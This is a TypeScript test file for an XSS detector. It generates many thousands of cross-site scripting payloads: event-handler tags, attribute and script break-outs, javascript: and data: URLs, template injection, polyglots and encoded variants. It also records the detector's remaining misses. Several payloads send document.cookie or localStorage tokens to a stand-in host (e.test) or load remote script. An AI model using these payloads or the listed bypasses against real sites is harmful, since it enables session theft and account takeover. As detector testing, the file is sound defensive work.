// XSS swept combinatorially, the way fuzz lists are generated: the PortSwigger cheat sheet's HTML context
// (tag x event x the attributes that make it fire x separators x quoting x action), attribute and element
// break-outs (the prefix that leaves a value or a raw-text element x what is injected after it), JavaScript
// string break-outs (quote x operator x action x suffix), URL contexts (javascript:/data:/vbscript: x case,
// whitespace and control bytes, entities, %-encoding x the element carrying it), template injection, and
// encodings of a base set (URL, double URL, entities, \u and \x escapes, UTF-7). Written from those grammars,
// none from the development corpus. The benign sweep is ordinary values of the same shapes: quotes and
// apostrophes in text, '<' in comparisons and arrows, on* words, URLs with queries, Markdown code, templates.
// Measured when written (round 10, before any detector change): 13,758/14,073 attacks (html 7,722/7,722, break-outs
// 944/944, JS string break-outs 4,088/4,400, URL contexts 600/600, templates and polyglots 77/77, encodings 327/330);
// ordinary values 20/615 flagged (13 by xss.js-uri: "javascript: the good parts" with punctuation after it). The sink-spelling
// and markup-language groups, added next and also measured before any change: 699/710 and 100/106 (14,557/14,889 in all).
// XSStrike's generator group, added last (2,880/2,880 on the build before the changes and after). Now, without it:
// 14,644/14,889 attacks, 7/687 ordinary values flagged (none by an xss rule; 4 subjects were added with the changes:
// 33/687 on the build before them).
// Changed since (xss.ts): a dialog, an indexed global or a script scheme glued to '<' is read outside a tag ('<alert(1)//, '<top[...](1),
// Markdown autolinks <javascript:...>, <data:text/html,...>); a tagged-template call right after leaving a string
// (';print`1`//); a method of location called after leaving a string (';location.assign(...)//, as ';history.pushState(
// was); a script scheme followed by two names with only a space between is prose (a syntax error runs nothing).
// Misses left, and why:
// - '+name() and '+location=... : in a query '+' is a space, so the value is ' print() ' (a string and a name: no script);
//   %2B-encoded it is concatenation, which the break-out watch leaves out on purpose ("a"+b.c() is everyday code).
// - print() and other names that are no dialog after / % == < > , ? : in instanceof ('/print()-', ',print()//'): the
//   break-out watch takes only - * ; || && ^ | & } (quoted paths '/user(s)', SQL LIKE '%x(', CSV and formulas ',f(',
//   JSON "k":f()); a dialog (alert confirm prompt eval ...) is caught there by itself.
// - '<location=..., '==location=..., '?location=..., ' in location=... (and '<onerror=alert;throw 1, '<document.location=name):
//   an assignment to a comparison or an operator's result is a SyntaxError ('x'<location=... is ('x'<location)=...): nothing runs.
// - ',location='//e.test' (valid: the comma operator) and ';$.getScript(...)// ('$' starts no name for the break-out watch):
//   a redirect, and jQuery after leaving a string; ',name= is CSV-like.
// - ${print`1`} ${fetch(...)} ${location.assign(...)} ${a=alert,a`1`}: a call of a name that is no dialog inside a template
//   literal's ${} is everyday template code (see xss.ts, pend kind 16).
// - \74script\76...: legacy octal escapes in a JS string (\74 is '<'): blocked since round 11 (decode.ts decodes
//   \74 \074 before a letter, '/' or '!' and the matching \76 \076).
// Set SWEEP_DUMP=dir to write each sweep's misses (and the benign sweep's flagged values) to dir.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { writeFileSync } from 'node:fs';
import { createDetector, type Detector } from '../../src/index.js';

let d: Detector;
beforeAll(async () => { d = await createDetector({ paranoia: Number(process.env.SWEEP_PARANOIA ?? 1) }); });
afterAll(async () => { await d.close(); });

const blocked = (p: string): boolean => d.scan(p, { context: 'query' }).blocked;
const dump = (name: string, lines: string[]): void => {
  if (process.env.SWEEP_DUMP) writeFileSync(`${process.env.SWEEP_DUMP}/xss-${name}.txt`, lines.map((l) => JSON.stringify(l)).join('\n') + '\n');
};

const actions = ['alert(1)', 'alert`1`', 'print()', 'confirm(1)', 'prompt(1)', 'alert(document.domain)', 'alert(document.cookie)',
  'eval(atob(\'YWxlcnQoMSk=\'))', 'top[\'al\'+\'ert\'](1)', 'window[\'alert\'](1)', '[1].find(alert)', 'alert?.(1)', '(alert)(1)',
  'self[`alert`](1)', 'Function(\'alert(1)\')()', 'setTimeout(\'alert(1)\')', 'location=\'javascript:alert(1)\'',
  'fetch(\'//e.test/?\'+document.cookie)', 'import(\'//e.test/x.js\')', 'new Image().src=\'//e.test/?c=\'+document.cookie',
  'document.location=\'//e.test\'', 'eval(name)', 'alert(String.fromCharCode(88,83,83))', 'throw onerror=alert,1',
  'window.onerror=alert;throw 1', 'x=alert,x(1)', 'alert.call(null,1)', 'Reflect.apply(alert,null,[1])', 'constructor.constructor(\'alert(1)\')()',
  '\\u0061lert(1)', 'a=document.createElement(\'script\');a.src=\'//e.test\';document.body.appendChild(a)', 'document.write(\'<img src=//e.test>\')'];

/** PortSwigger's tag x event table: each event with what makes it fire on its own (or with one interaction). */
function htmlSweep(): string[] {
  const tags = ['a', 'abbr', 'address', 'animate', 'article', 'aside', 'audio', 'b', 'bdo', 'big', 'blink', 'blockquote', 'body', 'br', 'button',
    'canvas', 'caption', 'center', 'cite', 'code', 'col', 'data', 'dd', 'del', 'details', 'dfn', 'dialog', 'div', 'dl', 'dt', 'em', 'embed',
    'fieldset', 'figure', 'font', 'footer', 'form', 'frameset', 'h1', 'header', 'hr', 'i', 'iframe', 'image', 'img', 'input', 'ins', 'kbd',
    'label', 'legend', 'li', 'link', 'main', 'map', 'mark', 'marquee', 'menu', 'meter', 'nav', 'nobr', 'object', 'ol', 'output', 'p', 'picture',
    'pre', 'progress', 'q', 's', 'samp', 'section', 'select', 'small', 'source', 'span', 'strike', 'strong', 'sub', 'summary', 'sup', 'svg',
    'table', 'tbody', 'td', 'textarea', 'tfoot', 'th', 'time', 'tr', 'track', 'tt', 'u', 'ul', 'var', 'video', 'wbr', 'xss', 'custom-tag', 'x'];
  const events: Array<[string, string]> = [
    ['onclick', ''], ['onerror', 'src=x '], ['onload', ''], ['onfocus', 'tabindex=1 autofocus '], ['onmouseover', ''], ['onanimationstart', 'style=animation-name:rotation '],
    ['onanimationend', 'style=animation:x 1s '], ['ontransitionend', 'style=transition:outline 1s '], ['onblur', 'tabindex=1 autofocus '], ['onfocusin', 'tabindex=1 autofocus '],
    ['onfocusout', 'tabindex=1 autofocus '], ['onpointerover', ''], ['onpointerdown', ''], ['onpointerenter', ''], ['onmouseenter', ''], ['onmousedown', ''],
    ['onmouseup', ''], ['onmousemove', ''], ['onmouseleave', ''], ['ondblclick', ''], ['oncontextmenu', ''], ['onauxclick', ''], ['onkeydown', 'contenteditable '],
    ['onkeyup', 'contenteditable '], ['onkeypress', 'contenteditable '], ['onbeforeinput', 'contenteditable '], ['oninput', 'contenteditable '], ['onpaste', 'contenteditable '],
    ['oncopy', 'contenteditable '], ['oncut', 'contenteditable '], ['ondrag', 'draggable=true '], ['ondragstart', 'draggable=true '], ['ondragend', 'draggable=true '],
    ['ondrop', ''], ['onscroll', 'style=overflow:auto;height:1px '], ['onscrollend', 'style=overflow:auto;height:1px '], ['onwheel', ''], ['ontoggle', 'open '],
    ['onbeforetoggle', 'popover id=x '], ['onbeforecopy', 'contenteditable '], ['onbeforecut', 'contenteditable '], ['onselect', ''], ['onchange', ''],
    ['onsubmit', ''], ['onreset', ''], ['oninvalid', 'required '], ['onsearch', ''], ['onpageshow', ''], ['onhashchange', ''], ['onpopstate', ''],
    ['onmessage', ''], ['onresize', ''], ['onunhandledrejection', ''], ['onafterprint', ''], ['onbeforeprint', ''], ['onbeforeunload', ''],
    ['onloadstart', 'src=x '], ['oncanplay', 'src=x.mp4 '], ['onplay', 'autoplay src=x.mp4 '], ['onended', 'src=x.mp4 '], ['onstart', ''],
    ['onbegin', 'attributeName=x dur=1s '], ['onrepeat', 'attributeName=x dur=1s repeatCount=2 '], ['onend', 'attributeName=x dur=1s '],
    ['onfullscreenchange', ''], ['onselectionchange', ''], ['onselectstart', ''], ['onpointerrawupdate', ''], ['oncontentvisibilityautostatechange', 'style=content-visibility:auto '],
    ['onanimationiteration', 'style=animation:x 1s infinite '], ['ontransitionrun', 'style=transition:outline 1s '], ['ontransitionstart', 'style=transition:outline 1s '],
    ['ontouchstart', ''], ['ontouchend', ''], ['onpointerup', ''], ['ongotpointercapture', ''], ['onmousewheel', ''], ['onshow', 'contextmenu=x '],
  ];
  const seps = [' ', '/', '\t', '\n', '\f', '/x/', ' /', '%09', '%0a', '%0c', '%20'];
  const quote = ['', '"', "'"];
  const out: string[] = [];
  let i = 0;
  for (const t of tags) {
    for (const [e, helper] of events) {
      const sep = seps[i % seps.length]!;
      const q = quote[i % 3]!;
      const a = actions[i % actions.length]!;
      const name = i % 7 === 3 ? t.toUpperCase() : i % 7 === 5 ? t.replace(/^./, (c) => c.toUpperCase()) : t;
      const ev = i % 5 === 4 ? e.replace(/^on(.)/, (_m, c: string) => `On${c.toUpperCase()}`) : e;
      const eq = i % 13 === 6 ? ' = ' : '=';
      const close = i % 4 === 0 ? `></${name}>` : i % 4 === 1 ? '>' : i % 4 === 2 ? '>x' : '';
      out.push(`<${name}${sep}${helper}${ev}${eq}${q}${a}${q}${close}`);
      i++;
    }
  }
  return out;
}

/** Breaking out of an attribute value or a raw-text element, then markup or an event attribute. */
function breakoutSweep(): string[] {
  const prefixes = ['"', "'", '">', "'>", '"/>', "'/>", '">\'>', '" ', "' ", '`', '"\n', "x' ", 'x" ', 'x">', "1'>", '"></a>', "'></div>",
    '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</iframe>', '</xmp>', '</noembed>', '</select>', '</option>', '</template>',
    '-->', '--!>', ']]>', '"--></style></script>', "'--></style></script>", '</title></textarea></style></script>', '"><!--', '*/</style>'];
  const attrInjections = ['autofocus onfocus=alert(1) x="', 'onmouseover=alert(1) x="', 'onmouseover="alert(1)', "onmouseover='alert(1)",
    'style=animation-name:rotation onanimationstart=alert(1) x=', 'accesskey=x onclick=alert(1) x="', 'onfocus=alert(1) autofocus tabindex=1 "',
    'onpointerenter=alert`1` x=', 'onclick=alert(document.cookie)//', 'oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto x="'];
  const markup = ['<svg onload=alert(1)>', '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<svg/onload=alert`1`>', '<iframe src=javascript:alert(1)>',
    '<details open ontoggle=alert(1)>', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<script src=//e.test/x.js></script>',
    '<a href=javascript:alert(1)>x</a>', '<video><source onerror=alert(1)>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<xss onfocus=alert(1) autofocus tabindex=1>',
    '<style onload=alert(1)>', '<marquee onstart=alert(1)>', '<form><button formaction=javascript:alert(1)>x', '<base href=//e.test/>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<img src=x onerror=eval(atob(`YWxlcnQoMSk=`))>', '<audio src onerror=alert(1)>'];
  const out: string[] = [];
  for (const p of prefixes) {
    for (const m of markup) out.push(`${p}${m}`);
    if (/^[^<\-\]*]/.test(p) && !p.includes('>')) for (const a of attrInjections) out.push(`${p}${p.endsWith(' ') || p.endsWith('\n') ? '' : ' '}${a}`);
  }
  return out;
}

/** Leaving a JavaScript string (or a template literal) and running an action. */
function jsStringSweep(): string[] {
  const quotes = ["'", '"', '`', "\\'", '\\"', "');", '");', "'}", '"}', "'])", "')}"];
  const ops = ['-', '+', '*', ';', '||', '&&', '/', '%', '^', '|', '&', '==', '<', '>', ',', '?', ':', ' in ', ' instanceof '];
  const acts = ['alert(1)', 'alert`1`', 'print()', 'confirm(1)', 'alert(document.domain)', 'eval(name)', 'top[\'al\'+\'ert\'](1)', 'window[\'alert\'](1)',
    '[1].find(alert)', 'alert?.(1)', '(alert)(1)', 'fetch(\'//e.test/\'+document.cookie)', 'location=\'//e.test\'', 'document.location=name',
    'setTimeout`alert\\x281\\x29`', 'onerror=alert;throw 1', 'import(\'//e.test/x.js\')', 'new Function`alert\\x281\\x29```', 'Function(\'alert(1)\')()', 'x=alert,x(1)'];
  const suffixes = ['', '//', '-', '+', "-'", "+'", '-"', '+"', ';//', "//'", '<!--', '}//', ";'", ';"'];
  const out: string[] = [];
  let i = 0;
  for (const q of quotes) {
    const closer = q.replace(/^\\/, '').slice(0, 1);
    for (const op of ops) {
      for (const a of acts) {
        let suf = suffixes[i % suffixes.length]!;
        if (suf.endsWith("'") || suf.endsWith('"')) suf = suf.slice(0, -1) + closer;
        out.push(`${q}${op}${a}${suf}`);
        i++;
      }
    }
  }
  // template literals and closing the script element from inside a string
  for (const a of acts) {
    out.push(`\${${a}}`, `\`-\${${a}}-\``, `</script><script>${a}</script>`, `</script><svg onload=${a}>`, `'</script><img src=x onerror=${a}>`,
      `\\';${a}//`, `\\"-${a}}//`, `'-${a}//`, `";${a};var x="`, `';${a};var x='`, `'}};${a};//`);
  }
  return out;
}

/** URL contexts: a script scheme in every spelling a browser normalises, carried by the elements that navigate or load. */
function urlSweep(): string[] {
  const schemes = ['javascript:', 'JaVaScRiPt:', 'JAVASCRIPT:', ' javascript:', '\tjavascript:', '%01javascript:', '\x01javascript:', '%20javascript:',
    'java\tscript:', 'java\nscript:', 'java\rscript:', 'java%09script:', 'java%0ascript:', 'java%0dscript:', 'java&#9;script:', 'java&#x09;script:',
    'java&Tab;script:', 'java&NewLine;script:', 'javascript&colon;', 'javascript&#58;', 'javascript&#x3a;', 'javascript&#0000058;', 'javascript%3a',
    '&#106;avascript:', '&#x6A;avascript:', '&#0000106;&#0000097;&#0000118;&#0000097;&#0000115;&#0000099;&#0000114;&#0000105;&#0000112;&#0000116;&#0000058;',
    '&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;', '%6A%61%76%61%73%63%72%69%70%74%3A', '%256A%2561vascript%253A', 'javas%00cript:',
    'javascript://%0a', 'javascript://%0d%0a', 'javascript:/**/', 'javascript:void(0);', 'jav&#x0A;ascript:', 'ja&#x09;va&#x0A;sc&#x0D;ript:'];
  const acts = ['alert(1)', 'alert`1`', 'print()', 'confirm(document.domain)', 'alert(document.cookie)', 'eval(atob(\'YWxlcnQoMSk=\'))',
    'fetch(\'//e.test/\'+document.cookie)', '%61lert(1)', 'alert%281%29', 'top[\'al\'+\'ert\'](1)', 'location=name', 'void(alert(1))'];
  const carriers = [(u: string) => u, (u: string) => `<a href="${u}">x</a>`, (u: string) => `<a href=${u}>x</a>`, (u: string) => `<iframe src="${u}"></iframe>`,
    (u: string) => `<form action="${u}"><input type=submit>`, (u: string) => `<object data="${u}">`, (u: string) => `<embed src="${u}">`,
    (u: string) => `<svg><a xlink:href="${u}"><text x=20 y=20>x</text></a>`, (u: string) => `<math><a xlink:href="${u}">x</a></math>`,
    (u: string) => `<button formaction="${u}">x</button>`, (u: string) => `<iframe src=${u}>`, (u: string) => `<a href='${u}'>x</a>`,
    (u: string) => `"><a href="${u}">x</a>`, (u: string) => `<svg><animate attributeName=href values="${u}"/><a id=x><text>x</text></a>`];
  const out: string[] = [];
  let i = 0;
  for (const s of schemes) for (const a of acts) { out.push(carriers[i % carriers.length]!(`${s}${a}`)); i++; }
  const others = ['data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:text/html;charset=utf-8,<svg onload=alert(1)>',
    'data:image/svg+xml,<svg onload=alert(1)>', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+', 'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    'DATA:text/html,<script>alert(1)</script>', 'data:,alert(1)', 'data:text/javascript,alert(1)', 'vbscript:msgbox(1)', 'VBScript:MsgBox("x")', 'livescript:alert(1)'];
  for (const o of others) for (const c of carriers) out.push(c(o));
  return out;
}

/** Client-side template injection and polyglots. */
function templateSweep(): string[] {
  const out: string[] = [];
  const bodies = ["constructor.constructor('alert(1)')()", "$on.constructor('alert(1)')()", "$eval.constructor('alert(1)')()", "_c.constructor('alert(1)')()",
    "[].constructor.constructor('alert(1)')()", "'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')", "toString.constructor.prototype.toString=toString.constructor.prototype.call;['a','alert(1)'].sort(toString.constructor)",
    "x=alert(1)", "$event.view.alert(1)", "constructor.constructor('fetch(`//e.test/`+document.cookie)')()"];
  const wraps = [(b: string) => `{{${b}}}`, (b: string) => `{{ ${b} }}`, (b: string) => `<div ng-app>{{${b}}}</div>`, (b: string) => `[[${b}]]`,
    (b: string) => `<div v-html="''.constructor.constructor('alert(1)')()">`, (b: string) => `\${${b}}`, (b: string) => `#{${b}}`];
  for (const b of bodies) for (const w of wraps) out.push(w(b));
  out.push(
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
    '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>',
    '"\'--></noscript></noembed></template></title></textarea></style><script>alert(1)</script>',
    '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)``>',
    '<svg onload=alert(1)//',
    '" onclick=alert(1)//<button \' onclick=alert(1)//> */ alert(1)//',
    '\'"`><\\x3Cimg src=xxx:x onerror=javascript:alert(1)>',
  );
  return out;
}

/** A base set in every encoding a decoder in front of the page may undo. */
function encodingSweep(): string[] {
  const base = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '"><script>alert(document.cookie)</script>',
    '\'><img src=x onerror=alert(1)>', 'javascript:alert(1)', '<iframe src="javascript:alert(1)">', '<body onload=alert(1)>', '</script><script>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>', '<details open ontoggle=alert(1)>', '<svg><script>alert(1)</script>'];
  const pct = (s: string, all: boolean) => [...s].map((c) => (all || /[^A-Za-z0-9]/.test(c) ? `%${c.charCodeAt(0).toString(16).padStart(2, '0').toUpperCase()}` : c)).join('');
  const encoders: Array<(s: string) => string> = [
    (s) => s, (s) => pct(s, false), (s) => pct(s, true), (s) => pct(s, false).replace(/%/g, '%25'), (s) => pct(s, false).toLowerCase(),
    (s) => s.replace(/</g, '%3C').replace(/>/g, '%3E'), (s) => s.replace(/</g, '%253C').replace(/>/g, '%253E'),
    (s) => s.replace(/</g, '&lt;').replace(/>/g, '&gt;'), (s) => s.replace(/</g, '&#60;').replace(/>/g, '&#62;'), (s) => s.replace(/</g, '&#x3c;').replace(/>/g, '&#x3e;'),
    (s) => s.replace(/</g, '\\u003c').replace(/>/g, '\\u003e'), (s) => s.replace(/</g, '\\x3c').replace(/>/g, '\\x3e'), (s) => s.replace(/</g, '\\74').replace(/>/g, '\\76'),
    (s) => s.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'), (s) => s.replace(/</g, '%u003C').replace(/>/g, '%u003E'),
    (s) => s.replace(/</g, '%C0%BC').replace(/>/g, '%C0%BE'), (s) => s.replace(/[a-z]/g, (c, k: number) => (k % 2 ? c.toUpperCase() : c)),
    (s) => s.replace(/ /g, '/'), (s) => s.replace(/ /g, '%0a'), (s) => s.replace(/ /g, '\t'), (s) => s.replace(/\(1\)/g, '`1`'),
    (s) => s.replace(/alert/g, 'al\\u0065rt'), (s) => s.replace(/alert/g, '\\u{61}lert'), (s) => s.replace(/alert\(1\)/g, 'eval(\'\\x61lert(1)\')'),
    (s) => s.replace(/</g, '&lt').replace(/>/g, '&gt'), (s) => s.replace(/</g, '&#0000060').replace(/>/g, '&#0000062'),
    (s) => s.replace(/<(\w)/g, '<$1').replace(/script/g, 'scr<script>ipt'), (s) => s.replace(/alert\(1\)/g, 'alert&lpar;1&rpar;'),
    (s) => s.replace(/alert/g, 'a&#108;ert'), (s) => JSON.stringify(s).slice(1, -1).replace(/</g, '\\u003c'), (s) => Buffer.from(s).toString('base64') === '' ? s : s.replace(/=/g, '%3D'),
  ];
  const out: string[] = [];
  for (const b of base) for (const e of encoders) out.push(e(b));
  return [...new Set(out)];
}

/** JavaScript sinks spelled every way the cheat sheets list (calls without parentheses, through globals, aliases,
 * callbacks, code from strings, navigation and exfiltration), each in the contexts that run it. */
function sinkSweep(): string[] {
  const acts = ['window.alert(1)', 'self.alert(1)', 'top.alert(1)', 'parent.alert(1)', 'frames.alert(1)', 'globalThis.alert(1)', 'this.alert(1)',
    'this[\'alert\'](1)', '(0,alert)(1)', 'alert.apply(null,[1])', 'alert.bind()(1)', '[1].map(alert)', '[1].forEach(confirm)', '[8].find(confirm)',
    'Promise.reject(1).catch(alert)', 'setTimeout(alert,0,1)', 'setInterval`alert\x281\x29`', 'eval.call(null,\'alert(1)\')', 'Function`a${\'alert(1)\'}```',
    'new Function(\'alert(1)\')()', 'Function.prototype.constructor(\'alert(1)\')()', '[].constructor.constructor(\'alert(1)\')()', '\'\'.constructor.constructor(\'alert(1)\')()',
    'eval(location.hash.slice(1))', 'eval(decodeURIComponent(location.hash.slice(1)))', 'eval(atob(location.hash.slice(1)))', 'eval(String.fromCharCode(97,108,101,114,116,40,49,41))',
    'eval(\'\\x61lert(1)\')', 'eval(\'\\u0061lert(1)\')', 'location=\'javascript:alert(1)\'', 'location.href=\'javascript:alert(1)\'', 'top.location=\'//e.test\'',
    'location.assign(\'//e.test\')', 'location.replace(\'javascript:alert(1)\')', 'open(\'javascript:alert(1)\')', 'window.open(\'//e.test/?\'+document.cookie)',
    'navigator.sendBeacon(\'//e.test\',document.cookie)', 'new Image().src=\'//e.test/?\'+document.cookie', 'fetch(\'//e.test\',{method:\'POST\',body:document.cookie})',
    'new Audio(\'//e.test/?\'+document.cookie)', 'document.body.innerHTML=\'<img src=x onerror=alert(1)>\'', 'document.write(\'<script src=//e.test></scr\'+\'ipt>\')',
    'document.body.appendChild(document.createElement(\'script\')).src=\'//e.test\'', '$.getScript(\'//e.test/x.js\')', 'import(\'data:text/javascript,alert(1)\')',
    'onerror=alert;throw 1', 'throw onerror=alert,1', '{onerror=alert}throw 1', 'onerror=eval;throw\'=alert\\x281\\x29\'', 'valueOf=alert;window+\'\'',
    'toString=alert;window+1', 'x=alert;x(1)', 'a=alert,a`1`', 'Reflect.apply(alert,window,[1])', 'Reflect.construct(Function,[\'alert(1)\'])()',
    'window[\'al\'+\'ert\'](1)', 'window[atob(\'YWxlcnQ=\')](1)', 'top[/al/.source+/ert/.source](1)', 'self[8680439..toString(30)](1)', 'alert(/XSS/.source)',
    'prompt`1`', 'confirm`1`', 'print`1`', 'alert(document.domain)', 'alert(window.origin)', 'alert(localStorage.getItem(\'token\'))', 'alert(sessionStorage.key(0))',
    'fetch(\'//e.test/?\'+localStorage.token)', 'document.cookie=\'session=x\'', 'document.domain=\'e.test\'', 'postMessage(document.cookie,\'*\')'];
  const contexts = [(a: string) => `<img src=x onerror=${a}>`, (a: string) => `<svg onload="${a}">`, (a: string) => `<script>${a}</script>`,
    (a: string) => `javascript:${a}`, (a: string) => `';${a}//`, (a: string) => `"-${a}-"`, (a: string) => `<a href="javascript:${a}">x</a>`,
    (a: string) => `</script><script>${a}</script>`, (a: string) => `\${${a}}`, (a: string) => `<details open ontoggle='${a}'>`];
  return acts.flatMap((a) => contexts.map((c) => c(a)));
}

/** Markup languages that render links and images: Markdown, BBCode, wiki text, with a script scheme or an attribute break-out. */
function markupSweep(): string[] {
  const urls = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript&#58;alert(1)', 'java%0ascript:alert(1)', 'javascript:alert`1`',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'javascript:fetch(\'//e.test/\'+document.cookie)', ' javascript:alert(1)', 'javascript://%0aalert(1)',
    'vbscript:msgbox(1)'];
  const shapes = [(u: string) => `[x](${u})`, (u: string) => `[x](${u} "title")`, (u: string) => `![x](${u})`, (u: string) => `[x]: ${u}`, (u: string) => `<${u}>`,
    (u: string) => `[url=${u}]x[/url]`, (u: string) => `[url]${u}[/url]`, (u: string) => `[img]${u}[/img]`, (u: string) => `[${u} x]`, (u: string) => `[[x|${u}]]`];
  const out = urls.flatMap((u) => shapes.map((s) => s(u)));
  out.push('![x](x"onerror="alert(1))', '[x](x" onmouseover="alert(1))', '[img]x" onerror="alert(1)[/img]', '[url=x onmouseover=alert(1)]x[/url]',
    '[color=red;background:url(javascript:alert(1))]x[/color]', '<details open ontoggle=alert(1)>**x**</details>');
  return out;
}

/** XSStrike's generator (genGen): '<' tag filling on-event eFilling '=' eFilling function lFilling end, with its tags, events,
 * fillings and confirm/prompt spellings. */
function xsstrikeSweep(): string[] {
  const handlers: Array<[string, string[]]> = [['ontoggle', ['details']], ['onpointerenter', ['d3v', 'details', 'html', 'a']],
    ['onmouseover', ['a', 'html', 'd3v']], ['onauxclick', ['d3v', 'a']], ['onfocus', ['input autofocus', 'd3v tabindex=1 autofocus']]];
  const fillings = ['%09', '%0a', '%0d', '/+/', '/', ' '];
  const eFillings = ['%09', '%0a', '%0d', '+', ''];
  const lFillings = ['', '%0dx'];
  const functions = ['[8].find(confirm)', 'confirm()', '(confirm)()', 'co\\u006efir\\u006d()', '(prompt)``', 'a=prompt,a()', 'top[`con`+`firm`]()', 'prompt`1`'];
  const ends = ['//', '>', ''];
  const out: string[] = [];
  let i = 0;
  for (const [event, tags] of handlers) for (const tag of tags) for (const f of fillings) for (const e of eFillings) for (const fn of functions) {
    const l = lFillings[i % 2]!;
    const end = ends[i % 3]!;
    out.push(`<${tag}${f}${event}${e}=${e}${fn}${l}${end}`);
    i++;
  }
  return out;
}

function benignSweep(): string[] {
  const subjects = ['Tom', "O'Brien", 'the "Pro" plan', 'my order', "Dr. O'Connor's office", 'Café Olé', 'R&D', 'Q&A', 'the <b> tag', 'a < b', 'x > 3',
    "it's", "don't", 'Smith & Sons', 'AT&T', '"quoted"', 'the onload event', 'online', 'one=1', 'onion rings', 'the alert', 'javascript: the good parts',
    'I <3 it', '5 > 4 > 3', '`npm install`', '${name}', '{{ user.name }}', 'x => x * 2', 'a->b', '<-- back', 'on/off', 'on-call', 'Error: see log',
    // added with the round-10 changes (measured on the build before them too): titles, autolinks and placeholders
    'JavaScript: The Good Parts', 'Link: <https://example.com/docs>', 'the <document.title> token', "the 'ok'<confirm> step"];
  const frames = [(s: string) => s, (s: string) => `Hi, ${s} here`, (s: string) => `"${s}"`, (s: string) => `'${s}'`, (s: string) => `${s}, please`,
    (s: string) => `Re: ${s} (2)`, (s: string) => `${s} - 50% off!`, (s: string) => `Contact ${s} <support@example.com>`, (s: string) => `See https://example.com/p?q=${encodeURIComponent(s)}&page=2`,
    (s: string) => `title=${s}&sort=asc`, (s: string) => `**${s}** is *great*`, (s: string) => `> ${s}`, (s: string) => `- [ ] ${s}`, (s: string) => `${s}; ${s}`,
    (s: string) => `if (a < b) { ${s} }`, (s: string) => `<p>${s}</p>`, (s: string) => `${s}!!! :)`, (s: string) => `(${s})`];
  const out: string[] = [];
  for (const s of subjects) for (const f of frames) out.push(f(s));
  out.push('Use <br> for line breaks', 'The <img> alt text is missing', 'Click "Save" then "Close"', 'Type `alert` in the search box', 'onClick handler docs',
    'Rating: 4/5 — "would buy again"', 'background: url(/img/bg.png) no-repeat', 'color: red; font-weight: bold', '<b>bold</b> and <i>italic</i>',
    '<a href="https://example.com">link</a>', '<img src="/img/logo.png" alt="Logo">', 'a => b', '1 < 2 && 3 > 2', "It's 'fine'", 'He said "hi" & left',
    'function call: foo(1)', 'document the cookie policy', 'print this page', 'javascript developer wanted', 'data: 12 rows', 'src=/img/a.png');
  return [...new Set(out)];
}

// [name, generator, total, blocked when written (round 10, before any change), blocked now (the floor)]
const sweeps: Array<[string, () => string[], number, number, number]> = [
  ['html: tag x event x helper x separator x quoting x action', htmlSweep, 7722, 7722, 7722],
  ['break-outs: attribute and raw-text prefixes x injection', breakoutSweep, 944, 944, 944],
  ['JS string break-outs: quote x operator x action x suffix', jsStringSweep, 4400, 4088, 4165],
  ['URL contexts: scheme spelling x action x carrier', urlSweep, 600, 600, 600],
  ['template injection and polyglots', templateSweep, 77, 77, 77],
  ['encodings of a base set', encodingSweep, 330, 327, 330], // (the 3 octal \74script\76 rows since round 11's decode.ts)
  ['sink spellings x contexts that run them', sinkSweep, 710, 699, 703],
  ['markup languages: links and images', markupSweep, 106, 100, 106],
  ['XSStrike generator: tag x filling x event x function x ending', xsstrikeSweep, 2880, 2880, 2880],
];

describe('xss sweeps (generated)', () => {
  for (const [name, gen, total, , floor] of sweeps) {
    it(name, () => {
      const all = gen();
      const missed = all.filter((p) => !blocked(p));
      dump(name.split(':')[0]!.replace(/\W+/g, '-'), missed);
      console.log(`${name}: ${all.length - missed.length}/${all.length}`);
      expect(all.length).toBe(total);
      expect(all.length - missed.length, `missed:\n${missed.slice(0, 80).join('\n')}`).toBeGreaterThanOrEqual(floor);
    });
  }
  it('ordinary values of the same shapes pass', () => {
    const all = benignSweep();
    const flagged = all.filter(blocked);
    dump('benign', flagged);
    console.log(`benign: ${flagged.length}/${all.length}`);
    expect(all.length).toBe(687);
    expect(flagged.length, `flagged:\n${flagged.join('\n')}`).toBeLessThanOrEqual(7); // 20/615 when written: 13 xss.js-uri ("javascript: the good parts" with punctuation after it), 7 by
    // cmdi/sqli rules (`npm install` in backticks, AT&T; ..., ${name}; ..., 1 < 2 && 3 > 2); with the 4 subjects added with the
    // changes 33/687 on the build before them, 7/687 now (those 7, none by an xss rule). At paranoia 2 (xss.any-tag on every
    // tag, <b> and <p> included): 211/687 before the changes, 191/687 now.
  });
});
